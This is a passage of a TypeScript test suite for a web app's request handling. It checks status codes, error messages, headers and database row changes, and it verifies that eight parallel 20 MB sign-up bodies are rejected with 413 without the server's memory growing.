      const answer = await send(fixture, request(fixture), AbortSignal.timeout(within));
      const elapsed = performance.now() - started;
      const context = `${name}: ${answer.status} ${answer.text.slice(0, 300)}`;
      expect(elapsed, `${name}: answered in ${elapsed.toFixed(0)} ms`).toBeLessThan(within);
      expect(answer.status, context).toBeLessThan(500);
      const statuses: readonly number[] = typeof expected.status === "number" ? [expected.status] : expected.status;
      expect(statuses, context).toContain(answer.status);
      if (expected.error) expect((JSON.parse(answer.text) as { error?: string }).error, context).toBe(expected.error);
      if (expected.says) expect(answer.text, context).toMatch(expected.says);
      if (expected.header) expect(answer.headers.get(expected.header[0]) ?? "", context).toMatch(expected.header[1]);
      const after = await counts();
      const changes = expected.changes ?? {};
      for (const table of TABLES) {
        const change = changes[table];
        // -1: some rows, how many depends on the survey (measurements of an accepted response).
        if (change === -1) expect(after[table], `${context} (${table})`).toBeGreaterThan(before[table]);
        else expect(after[table] - before[table], `${context} (${table})`).toBe(change ?? 0);
      }
    });
  }

  it("answers eight parallel 20 MB sign-ups with 413 at once, without growing the server's memory", async () => {
    const rss = () => Number(/VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${server.pid}/status`, "utf8"))?.[1] ?? NaN) * KB;
    const before = await counts();
    const rssBefore = rss();
    for (const chunked of [false, true]) {
      const signup = page(() => "/signup", "name=Eve&email=eve%40x.test&password=", FORM, big(20 * MB, chunked))(fixture);
      const answers = await Promise.all(
        Array.from({ length: 8 }, async () => {
          const started = performance.now();
          const answer = await sendStreamed(fixture, signup, AbortSignal.timeout(WITHIN_MS * 2));
          return { status: answer.status, ms: performance.now() - started };
        }),
      );
      expect(answers.map((a) => a.status)).toEqual(Array(8).fill(413));
      // Eight at once on a busy machine: each within the per-request budget.
      for (const a of answers) expect(a.ms).toBeLessThan(WITHIN_MS);
    }
    const grown = rss() - rssBefore;
    // 16 bodies of 20 MB: read into memory, as request.formData() does, they would be 320 MB.
    expect(grown, `grew ${(grown / MB).toFixed(1)} MB`).toBeLessThan(64 * MB);
    expect(await counts()).toEqual(before);
  });
});
